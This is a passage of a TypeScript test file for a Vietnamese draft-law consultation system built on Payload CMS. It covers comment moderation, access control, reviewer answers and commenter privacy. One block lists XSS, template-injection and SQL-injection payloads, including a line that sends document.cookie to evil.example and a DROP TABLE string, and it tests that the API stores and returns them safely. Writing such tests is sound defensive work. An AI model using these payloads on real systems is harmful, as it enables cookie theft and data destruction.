    expect(pathsOf(blank)).toEqual(['rejectionReason'])

    const rejected = await moderate(ids.toReject, { status: 'rejected', rejectionReason: 'Quảng cáo, không liên quan đến dự thảo.' })
    expect(rejected.status).toBe('rejected')
    expect((await getComments(code.slug)).text).not.toContain(texts.toReject)
    const [entry] = await auditEntries('comment_moderation', ids.toReject)
    expect(entry?.details).toMatchObject({ from: 'pending', to: 'rejected', reason: 'Quảng cáo, không liên quan đến dự thảo.' })
  })

  it('refuses a comment created directly through the API by the public', async () => {
    const data = {
      code: code.id,
      revision: 'v0.2',
      name: 'Kẻ lách luật',
      email: 'lach@example.vn',
      group: 'other',
      text: freshText('Bỏ qua kiểm duyệt'),
      consent: true,
      status: 'published',
    }
    const anonymous = await refusal(payload.create({ collection: 'code-comments', data: data as never, overrideAccess: false }))
    expect(anonymous.status).toBe(403)
    const viaRest = await rest('POST', '/code-comments', { body: data })
    expect(viaRest.status).toBe(403)
    expect(await storedComments(data.text)).toHaveLength(0)
  })

  it('refuses to answer a comment that is still pending', async () => {
    const error = await refusal(moderate(ids.stillPending, { disposition: 'accepted', reply: 'Đã tiếp thu.' }, reviewer))
    expect(error.status).toBe(400)
    expect(pathsOf(error)).toEqual(['disposition'])
    const stored = await payload.findByID({ collection: 'code-comments', id: ids.stillPending, overrideAccess: true })
    expect(stored.disposition ?? null).toBeNull()
    expect(stored.answeredAt ?? null).toBeNull()
  })

  it('shows a reviewer’s answer with its disposition, reply and the clauses of v0.2 it links to, and records it', async () => {
    await moderate(ids.toAnswer, { status: 'published' })
    const movedKey = code.spec.chapters[1]!.articles[0]!.clauses[0]!.key
    const answered = await moderate(
      ids.toAnswer,
      { disposition: 'accepted', reply: 'Đã tiếp thu: khoản 2 được viết lại.', linkedRevision: 'v0.2', linkedClauses: ['I.1.2', movedKey] },
      reviewer,
    )
    expect(answered.linkedClauses).toEqual(['I.1.2', 'I.1.3'])
    await payload.update({
      collection: 'code-comments',
      id: ids.toAnswer,
      locale: 'en',
      data: { reply: 'Taken in: clause 2 was rewritten.' },
      user: reviewer,
      overrideAccess: false,
    })

    const listed = await getComments(code.slug)
    const shown = listed.body.comments.find((comment: { id: number }) => comment.id === ids.toAnswer)
    expect(shown.answer).toMatchObject({
      disposition: 'accepted',
      reply: { vi: 'Đã tiếp thu: khoản 2 được viết lại.', en: 'Taken in: clause 2 was rewritten.' },
      linkedRevision: 'v0.2',
      linkedClauses: ['I.1.2', 'I.1.3'],
    })
    expect(shown.answer.answeredAt).toBeTruthy()
    expect(listed.text).not.toContain(reviewer.email)

    const stored = await payload.findByID({ collection: 'code-comments', id: ids.toAnswer, overrideAccess: true, depth: 0 })
    expect(stored.answeredBy).toBe(reviewer.id)
    const [entry] = await auditEntries('comment_answer', ids.toAnswer)
    expect(entry).toMatchObject({ actorEmail: reviewer.email, details: { disposition: 'accepted', linkedRevision: 'v0.2' } })
  })

  it('refuses an answer that links a clause or a revision that was not published later, naming the field', async () => {
    await moderate(ids.toPublish, { status: 'published' })
    const error = await refusal(
      moderate(ids.toPublish, { disposition: 'partly-accepted', reply: 'Tiếp thu một phần.', linkedRevision: 'v0.2', linkedClauses: ['IX.9.9'] }, reviewer),
    )
    expect(error.status).toBe(400)
    expect(pathsOf(error)).toEqual(['linkedClauses'])
    expect(error.data?.errors?.[0]?.message).toBe('Phiên bản v0.2 không có điều khoản IX.9.9.')
    const sameRevision = await refusal(
      moderate(ids.toPublish, { disposition: 'partly-accepted', reply: 'Tiếp thu một phần.', linkedRevision: 'v0.1', linkedClauses: ['I.1.2'] }, reviewer),
    )
    expect(pathsOf(sameRevision)).toEqual(['linkedRevision'])
    const neverPublished = await refusal(
      moderate(ids.toPublish, { disposition: 'partly-accepted', reply: 'Tiếp thu một phần.', linkedRevision: 'v9.9' }, reviewer),
    )
    expect(pathsOf(neverPublished)).toEqual(['linkedRevision'])
    const stored = await payload.findByID({ collection: 'code-comments', id: ids.toPublish, overrideAccess: true })
    expect(stored.disposition ?? null).toBeNull()
  })

  it('keeps what the commenter wrote when an editor tries to change it', async () => {
    await moderate(ids.toPublish, { status: 'published' })
    const before = await payload.findByID({ collection: 'code-comments', id: ids.toPublish, overrideAccess: true, depth: 0 })
    await moderate(ids.toPublish, {
      text: 'Nội dung bị biên tập viên sửa.',
      organisation: 'Tổ chức khác',
      name: 'Tên khác',
      email: 'khac@example.vn',
      clauseNumber: 'II.3.1',
      group: 'business',
      consent: false,
    })
    const after = await payload.findByID({ collection: 'code-comments', id: ids.toPublish, overrideAccess: true, depth: 0 })
    for (const field of ['text', 'organisation', 'name', 'email', 'clauseNumber', 'clauseKey', 'group', 'consent', 'revision'] as const) {
      expect(after[field], field).toEqual(before[field])
    }
    expect((await getComments(code.slug)).text).not.toContain('Nội dung bị biên tập viên sửa')
  })

  it('lets only editors and reviewers moderate: a press officer cannot publish a comment', async () => {
    const pressOfficer = await makeActor(payload, ['press-officer'])
    const error = await refusal(moderate(ids.stillPending, { status: 'published' }, pressOfficer))
    expect(error.status).toBe(403)
    expect((await payload.findByID({ collection: 'code-comments', id: ids.stillPending, overrideAccess: true })).status).toBe('pending')
  })
})

describe('markup in comments', () => {
  const PAYLOADS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    'javascript:alert(1)',
    '<a href="javascript:alert(1)">x</a>',
    "{{constructor.constructor('alert(1)')()}}",
    '<iframe srcdoc="<script>alert(document.cookie)</script>"></iframe>',
    '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
    "'; DROP TABLE code_comments; --",
    '<style>@import "//evil.example/x.css";</style>',
    '\u202Egnp.exe <b onmouseover=alert(1)>hover</b>',
  ]
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>
  const ids = new Map<string, number>()

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `danh-dau-${tag()}`, editor, reviewer)
  })

  it('accepts each payload in the text, organisation and name, and stores it exactly as sent', async () => {
    for (const markup of PAYLOADS) {
      const response = await postComment(code.slug, commentBody({ text: markup, organisation: markup, name: markup }))
      expect(response.status, `${markup}: ${response.text}`).toBe(202)
      const stored = await storedComment(markup)
      expect(stored).toMatchObject({ text: markup, organisation: markup, name: markup })
      ids.set(markup, Number(stored.id))
    }
  })

  it('lists each one back in the JSON as the same string, JSON-escaped, never turned into or out of markup', async () => {
    for (const id of ids.values())
      await payload.update({ collection: 'code-comments', id, data: { status: 'published' }, user: moderator, overrideAccess: false })
    const listed = await getComments(code.slug)
    expect(listed.headers.get('Content-Type')).toMatch(/^application\/json/)
    expect(listed.body.comments).toHaveLength(PAYLOADS.length)
    for (const markup of PAYLOADS) {
      const shown = listed.body.comments.find((comment: { id: number }) => comment.id === ids.get(markup))
      expect(shown.text).toBe(markup)
      expect(shown.organisation).toBe(markup)
      expect(listed.text).toContain(`"text":${JSON.stringify(markup)}`)
      expect(listed.text).toContain(`"organisation":${JSON.stringify(markup)}`)
    }
    expect(listed.text).not.toMatch(/&lt;|&gt;|&quot;|&#/)
  })
})

describe('the privacy of people who comment', () => {
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>
  const secret = tag()
  const people = [1, 2, 3, 4].map((n) => ({ name: `Nguyễn Thị Kín Đáo ${secret} ${n}`, email: `bi.mat.${secret}.${n}@rieng-tu.example.vn` }))

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `rieng-tu-${tag()}`, editor, reviewer)
    const ids: number[] = []
    for (const [n, person] of people.entries()) {
      const text = freshText(`Góp ý riêng tư số ${n}`)
      expect((await postComment(code.slug, commentBody({ ...person, text, clause: n % 2 ? 'I.1.1' : undefined }))).status).toBe(202)
      ids.push(Number((await storedComment(text)).id))
    }
    await publishRevision(payload, code, 'v0.2', editor, reviewer)
    const as = { user: moderator, overrideAccess: false } as const
    await payload.update({ collection: 'code-comments', id: ids[0]!, data: { status: 'published' }, ...as })
    await payload.update({ collection: 'code-comments', id: ids[1]!, data: { status: 'published' }, ...as })
    await payload.update({
      collection: 'code-comments',
      id: ids[1]!,
      data: { disposition: 'accepted', reply: 'Đã tiếp thu.', linkedRevision: 'v0.2', linkedClauses: ['I.1.2'] },
      user: reviewer,
      overrideAccess: false,
    })
    await payload.update({ collection: 'code-comments', id: ids[2]!, data: { status: 'rejected', rejectionReason: 'Trùng lặp.' }, ...as })
  })

  const leaks = (json: string) =>
    people.flatMap((person) => [person.name, person.email, person.email.split('@')[0]!]).filter((value) => json.toLowerCase().includes(value.toLowerCase()))

  it('stores who wrote each comment, for the staff', async () => {
    const { docs } = await payload.find({ collection: 'code-comments', where: { code: { equals: code.id } }, overrideAccess: true, limit: 10 })
    expect(docs).toHaveLength(4)
    expect(leaks(JSON.stringify(docs))).toHaveLength(people.length * 3)
  })

  it('never names them in the code, its revisions, the diff or the comments of the public API', async () => {
    const served = [
      await getCode(code.slug),
      await getRevisions(code.slug),
      await getRevision(code.slug, 'v0.1'),
      await getRevision(code.slug, 'v0.2'),
      await getDiff(code.slug, '?from=v0.1&to=v0.2'),
      await getComments(code.slug),
    ]
    for (const response of served) {
      expect(response.status).toBe(200)
      expect(leaks(response.text)).toEqual([])
    }
    const comments = served.at(-1)!.body.comments
    expect(comments).toHaveLength(2)
    expect(JSON.stringify(comments)).not.toMatch(/ipHash|moderatedBy|answeredBy|rejectionReason|@/)
  })

  it('never names them to anonymous reads of the collection, in any language or depth', async () => {
    const local = await payload.find({ collection: 'code-comments', where: { code: { equals: code.id } }, locale: 'all', depth: 2, overrideAccess: false })
    expect(local.docs).toHaveLength(2)
    expect(leaks(JSON.stringify(local.docs))).toEqual([])
    const viaRest = await rest('GET', `/code-comments?where[code][equals]=${code.id}&depth=2&locale=all`)
    expect(viaRest.status).toBe(200)
    expect(viaRest.body.docs).toHaveLength(2)
    expect(leaks(JSON.stringify(viaRest.body))).toEqual([])
  })

  it('does not let the public find a comment by the commenter’s email or name', async () => {
    for (const field of ['email', 'name']) {
      const value = field === 'email' ? people[0]!.email : people[0]!.name
      const response = await rest('GET', `/code-comments?where[${field}][equals]=${encodeURIComponent(value)}`)
      expect(response.body?.docs ?? []).toEqual([])
      expect(leaks(JSON.stringify(response.body))).toEqual([])
    }
  })
})
